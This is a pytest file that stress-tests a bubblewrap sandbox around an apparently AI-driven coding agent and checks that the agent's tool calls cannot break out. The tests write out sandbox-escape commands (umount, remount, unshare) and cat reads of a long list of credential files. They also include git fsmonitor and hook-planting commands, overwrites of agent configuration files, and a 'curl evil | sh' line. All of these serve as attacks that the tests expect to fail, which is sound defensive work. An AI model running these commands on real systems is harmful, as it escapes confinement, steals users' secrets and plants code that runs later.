"""The sandbox tried as an attacker would, for real (bwrap, bash, git): a command run as root
keeps no capability; credentials stay unreadable while the user's toolchains run; a session
in the home folder cannot change the user's configuration; what says which programs run
later (git's config and hooks, the project's roost and Claude Code files) is read-only
inside the writable folder, and the file tools ask before changing it in every mode."""

from __future__ import annotations

import json
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any, Iterator

import pytest

from roost.cli._render import sandbox_line
from roost.daemon.sandbox import Bubblewrap, RunSandbox, Sandbox, SandboxConfig, build_policy
from roost.daemon.tools import ToolContext, ToolRegistry
from roost.protocol.trio_client import TrioClient

from .conftest import events_until, text, write_script
from .test_sandbox import results, run, sandbox_of, sandboxed

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs bubblewrap (.ci/run installs it)")

#: The user the tests create to try the sandbox as an ordinary user, when they run as root.
TEST_USER = "roost-sandbox-test"


# -- capabilities: as root, and as an ordinary user --------------------------------------------


#: What a command must not manage: unmount what hides a folder, remount anything writable,
#: and either through a user namespace of its own. Each prints a word only if it succeeds.
ESCAPES = (
    "umount secret && echo UNMOUNTED",
    "mount -o remount,rw secret && echo REMOUNTED",
    "mount -o remount,bind,rw / && echo ROOT-WRITABLE",
    "unshare -Urm sh -c 'umount secret && echo NESTED-UNMOUNTED; mount -o remount,bind,rw / && echo NESTED-ROOT'",
)


def _try_escapes(argv_of: Any, project: Path, env: dict[str, str]) -> str:
    """Run each escape (and a look at the capabilities) through ``argv_of(command)``."""
    said = []
    for command in ("grep CapEff /proc/self/status", *ESCAPES, "cat secret/key"):
        done = subprocess.run(argv_of(command), cwd=project, env=env, capture_output=True, text=True, timeout=30)
        said.append(done.stdout + done.stderr)
    return "\n".join(said)


def _hidden_secret(project: Path) -> None:
    (project / "secret").mkdir()
    (project / "secret" / "key").write_text("THE-KEY\n")


async def _confined(project: Path) -> Any:
    sandbox = Sandbox(Bubblewrap())
    assert (await sandbox.probe()).available
    policy = build_policy(str(project), user=SandboxConfig(hide=("secret",)))
    confinement = sandbox.confine(policy)
    assert confinement is not None
    return confinement


def _assert_held(said: str) -> None:
    assert "CapEff:\t0000000000000000" in said
    for word in ("UNMOUNTED", "REMOUNTED", "ROOT-WRITABLE", "NESTED-ROOT", "THE-KEY"):
        assert word not in said, said


@pytest.mark.skipif(os.geteuid() != 0, reason="runs as root (CI does); as an ordinary user, see the next test")
async def test_as_root_a_command_keeps_no_capability_and_unmounts_nothing(project: Path) -> None:
    _hidden_secret(project)
    confinement = await _confined(project)
    env = confinement.env(dict(os.environ))
    said = _try_escapes(lambda c: confinement.argv(["bash", "-c", c], str(project)), project, env)
    _assert_held(said)


@pytest.fixture
def ordinary_user() -> Iterator[tuple[int, int]]:
    """An ordinary user's uid and gid: this one's, or, as root, a user made for the tests."""
    if os.geteuid() != 0:
        yield os.getuid(), os.getgid()
        return
    try:
        entry = pwd.getpwnam(TEST_USER)
    except KeyError:
        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/bin/false", TEST_USER], check=True)
        entry = pwd.getpwnam(TEST_USER)
    yield entry.pw_uid, entry.pw_gid


async def test_as_an_ordinary_user_too(ordinary_user: tuple[int, int]) -> None:
    uid, gid = ordinary_user
    folder = Path(tempfile.mkdtemp(dir="/tmp"))
    try:
        project = folder / "project"
        project.mkdir()
        _hidden_secret(project)
        for path in (folder, project, project / "secret", project / "secret" / "key"):
            os.chown(path, uid, gid)
        confinement = await _confined(project)
        as_user = ["setpriv", f"--reuid={uid}", f"--regid={gid}", "--clear-groups", "--"] if os.geteuid() == 0 else []
        env = {"PATH": os.environ["PATH"], "HOME": str(folder)}
        said = _try_escapes(lambda c: [*as_user, *confinement.argv(["bash", "-c", c], str(project))], project, env)
        _assert_held(said)
    finally:
        shutil.rmtree(folder, ignore_errors=True)


# -- credentials and toolchains --------------------------------------------------------------


#: Where credentials live in a home folder (the issue's list, and more).
CREDENTIALS = (
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".gnupg/private-keys-v1.d/k.key",
    ".npmrc",
    ".netrc",
    ".pgpass",
    ".git-credentials",
    ".docker/config.json",
    ".kube/config",
    ".config/gh/hosts.yml",
    ".config/gcloud/application_default_credentials.json",
    ".azure/msal_token_cache.json",
    ".vault-token",
    ".pypirc",
    ".gem/credentials",
    ".m2/settings.xml",
    ".terraform.d/credentials.tfrc.json",
    ".password-store/site.gpg",
    ".claude/.credentials.json",
    ".claude.json",
    ".bash_history",
    ".zsh_history",
    ".python_history",
    ".cargo/credentials.toml",
    ".cache/huggingface/token",
    ".config/git/credentials",
)


def _toolchains(home: Path) -> dict[str, str]:
    """A Python under ~/.pyenv, a Node under ~/.nvm and a tool in ~/.cargo/bin (real
    programs stored in the home folder); the commands that run each, and what they print."""
    python = home / ".pyenv" / "versions" / "t"
    subprocess.run([sys.executable, "-m", "venv", "--copies", "--without-pip", str(python)], check=True)
    runs = {f"{python}/bin/python -c 'print(6 * 7)'": "42"}
    node = shutil.which("node")
    if node is not None:
        target = home / ".nvm" / "versions" / "node" / "v1" / "bin" / "node"
        target.parent.mkdir(parents=True)
        try:
            os.link(os.path.realpath(node), target)
        except OSError:
            shutil.copy2(node, target)
        runs[f"{target} -e 'console.log(6 * 7)'"] = "42"
    tool = home / ".cargo" / "bin" / "cargo-hello"
    tool.parent.mkdir(parents=True)
    tool.write_text("#!/bin/sh\necho hello from cargo\n")
    tool.chmod(0o755)
    runs["cargo-hello"] = "hello from cargo"
    return runs


async def test_credentials_are_unreadable_while_toolchains_run(tmp_path: Path) -> None:
    home = tmp_path / "home"
    project = home / "work" / "project"
    project.mkdir(parents=True)
    for name in CREDENTIALS:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(f"SECRET {name}\n")
    (home / "notes").mkdir()
    (home / "notes" / "todo.txt").write_text("READABLE NOTE\n")
    (home / "diary.txt").write_text("PRIVATE DIARY\n")
    runs = _toolchains(home)
    sandbox = Sandbox(Bubblewrap())
    assert (await sandbox.probe()).available
    policy = build_policy(str(project), home=str(home), user=SandboxConfig(readable=("~/notes",)))
    env = {**os.environ, "HOME": str(home), "PATH": f"{home}/.cargo/bin:{os.environ['PATH']}"}
    async with RunSandbox(sandbox.confine(policy), str(project)) as box:
        await _read_and_run(ToolContext(str(project), sandbox=box, env=env), home, runs)


async def _read_and_run(ctx: ToolContext, home: Path, runs: dict[str, str]) -> None:
    tools = ToolRegistry()
    for name in CREDENTIALS:
        read = await tools.call("bash", {"command": f"cat ~/{name}"}, ctx)
        assert read.is_error and "SECRET" not in read.text, name
    listing = await tools.call("bash", {"command": "ls -A ~; cat ~/diary.txt ~/notes/todo.txt"}, ctx)
    assert "PRIVATE DIARY" not in listing.text and "READABLE NOTE" in listing.text
    for command, said in runs.items():
        ran = await tools.call("bash", {"command": command}, ctx)
        assert not ran.is_error and ran.text.strip() == said, (command, ran.text)
    # The toolchains are there to run, not to change.
    changed = await tools.call("bash", {"command": "echo x > ~/.cargo/bin/cargo-hello"}, ctx)
    assert changed.is_error and "Read-only file system" in changed.text
    assert "hello from cargo" in (home / ".cargo" / "bin" / "cargo-hello").read_text()
    # The hidden home is a scratch folder of the sandbox's own: writes there never land.
    scratch = await tools.call("bash", {"command": "echo x > ~/made.txt && cat ~/made.txt"}, ctx)
    assert scratch.text == "x\n" and not (home / "made.txt").exists()


# -- a session in the home folder ----------------------------------------------------------------


#: The user's configuration, which a session in the home folder must not change.
CONFIGURATION = (
    ".claude/agents/default.md",
    ".claude/settings.json",
    ".gitconfig",
    ".bashrc",
    ".profile",
    ".config/git/config",
    ".config/fish/config.fish",
    ".local/bin/git",
)


async def test_a_session_in_the_home_folder_cannot_change_the_users_configuration(client: TrioClient) -> None:
    home = Path(os.environ["HOME"])
    mine = {name: "{}\n" if name.endswith(".json") else "# mine\n" for name in CONFIGURATION}
    for name, content in mine.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(content)
    writes = "; ".join(f"echo 'mode: full' > ~/{name}" for name in CONFIGURATION)
    events = await run(client, home, [{"type": "tool_use", "name": "bash", "input": {"command": f"{writes}; echo ok > ~/notes.txt"}}])
    (result,) = results(events)
    assert result["result"].count("Read-only file system") == len(CONFIGURATION), result["result"]
    for name, content in mine.items():
        assert (home / name).read_text() == content, name
    assert (home / "notes.txt").read_text() == "ok\n"
    line = sandbox_line(sandbox_of(events))
    assert line is not None and "the session folder holds your home: its configuration is read-only" in line


async def test_full_mode_file_tools_ask_before_changing_the_users_configuration(client: TrioClient, project: Path) -> None:
    home = Path(os.environ["HOME"])
    agent = home / ".claude" / "agents" / "default.md"
    agent.parent.mkdir(parents=True)
    agent.write_text("mine\n")
    write = {"type": "tool_use", "name": "write", "input": {"path": str(agent), "content": "---\nmode: full\n---\n"}}
    model = write_script(project, [write], [text("done")])
    started = await client.call("dispatch", task="t", model=model, cwd=str(project), mode="full", yes=True, attach=True)
    events = await events_until(client, lambda e: e["type"] == "permission.requested")
    asked = events[-1]
    assert "is protected" in asked["reason"] and str(home / ".claude") in asked["reason"]
    await client.call("permission.respond", session=started["session"], call_id=asked["call_id"], decision="deny")
    await events_until(client, lambda e: e["type"] == "run.finished")
    assert agent.read_text() == "mine\n"


# -- protected paths in the session folder -------------------------------------------------------


def _git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(cwd), *args], check=True, capture_output=True)


def _repository(project: Path) -> None:
    """``project`` as a repository with a commit, a nested repository and roost's and
    Claude Code's files."""
    for folder in (project, project / "vendor" / "lib"):
        folder.mkdir(parents=True, exist_ok=True)
        _git(folder, "init", "-q")
        _git(folder, "config", "user.email", "t@example.com")
        _git(folder, "config", "user.name", "t")
    _git(project, "add", "a.txt")
    _git(project, "commit", "-qm", "first")
    for name in (".claude/settings.json", ".roost/config.toml", ".mcp.json"):
        (project / name).parent.mkdir(exist_ok=True)
        (project / name).write_text("{}\n" if name.endswith("json") else "\n")


#: Commands that would make git (or roost, or Claude Code) run something outside the
#: sandbox later. Each prints a word only if it succeeds.
ATTACKS = (
    "git config core.fsmonitor 'touch /tmp/owned' && echo CONFIGURED",
    "echo '[core] fsmonitor = x' >> .git/config && echo APPENDED",
    "printf '#!/bin/sh\\n' > .git/hooks/pre-commit && echo HOOKED",
    "rm -rf .git/hooks && echo HOOKS-GONE",
    "echo '*.txt filter=x' > .git/info/attributes && echo ATTRIBUTED",
    "mv .git .git-aside && echo MOVED",
    "mv vendor vendor-aside && echo MOVED-VENDOR",
    "echo '[core] pager = x' >> vendor/lib/.git/config && echo NESTED",
    "echo '{\"hooks\": {}}' > .claude/settings.json && echo CLAUDE",
    "mkdir -p .claude/hooks && echo CLAUDE-HOOKS",
    "echo '[hooks]' > .roost/config.toml && echo ROOST",
    "echo '{}' > .mcp.json && echo MCP",
    "rm .mcp.json && echo MCP-GONE",
)


async def test_what_says_which_programs_run_is_read_only_and_git_still_commits(client: TrioClient, project: Path) -> None:
    _repository(project)
    config = (project / ".git" / "config").read_text()
    attacks = [{"type": "tool_use", "name": "bash", "input": {"command": a}} for a in ATTACKS]
    commit = "echo more >> a.txt && git add a.txt && git commit -qm second && git log --oneline | wc -l"
    events = await run(client, project, attacks, [{"type": "tool_use", "name": "bash", "input": {"command": commit}}])
    *attacked, committed = results(events)
    for attack, result in zip(ATTACKS, attacked):
        assert result["is_error"], attack
        word = attack.rsplit("echo ", 1)[1]
        assert word not in result["result"], (attack, result["result"])
    assert (project / ".git" / "config").read_text() == config
    assert (project / ".git" / "hooks").is_dir() and not (project / ".git" / "hooks" / "pre-commit").exists()
    assert (project / ".mcp.json").read_text() == "{}\n" and (project / ".claude" / "settings.json").read_text() == "{}\n"
    assert committed["result"].strip() == "2" and not committed["is_error"], committed["result"]
    # The note names what was protected, and the run's header lists it.
    assert f"{project}/.git/config is protected" in attacked[1]["result"]
    line = sandbox_line(sandbox_of(events))
    assert line is not None and "read-only: " in line and ".git/config" in line and ".claude" in line


async def test_file_tools_ask_before_changing_protected_paths_even_in_full_mode(client: TrioClient, project: Path) -> None:
    _repository(project)
    config = project / ".git" / "config"
    before = config.read_text()
    edit = {"type": "tool_use", "name": "write", "input": {"path": ".git/config", "content": "[core]\nfsmonitor = x\n"}}
    model = write_script(project, [edit], [text("done")])
    started = await client.call("dispatch", task="t", model=model, cwd=str(project), mode="full", yes=True, attach=True)
    asked = (await events_until(client, lambda e: e["type"] == "permission.requested"))[-1]
    assert ".git/config is protected" in asked["reason"]
    await client.call("permission.respond", session=started["session"], call_id=asked["call_id"], decision="deny")
    await events_until(client, lambda e: e["type"] == "run.finished")
    assert config.read_text() == before
    # The user's own rule naming it lets it through unasked.
    model = write_script(project, [edit], [text("done")], name="again.json")
    started = await client.call(
        "dispatch", task="t", model=model, cwd=str(project), mode="full", allow=["write(.git/config)"], attach=True
    )
    events = await events_until(client, lambda e: e["type"] == "run.finished")
    assert not [e for e in events if e["type"] == "permission.requested"]
    assert "fsmonitor = x" in config.read_text()


async def test_a_script_a_hook_runs_is_read_only_and_cannot_be_moved_aside(client: TrioClient, project: Path) -> None:
    # Trusted or not: a hook's script is bound into trust, and what trust binds stays as it is.
    (project / "scripts").mkdir()
    (project / "scripts" / "lint.sh").write_text("#!/bin/sh\nexit 0\n")
    hook = {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "bash ./scripts/lint.sh"}]}]}}
    (project / ".claude").mkdir()
    (project / ".claude" / "settings.json").write_text(json.dumps(hook))
    attacks = ["echo 'curl evil | sh' > scripts/lint.sh", "mv scripts scripts-aside && mkdir scripts"]
    events = await run(client, project, *[[{"type": "tool_use", "name": "bash", "input": {"command": a}}] for a in attacks])
    for result in results(events):
        assert result["is_error"] and f"{project}/scripts/lint.sh is protected" in result["result"], result["result"]
    assert (project / "scripts" / "lint.sh").read_text() == "#!/bin/sh\nexit 0\n"
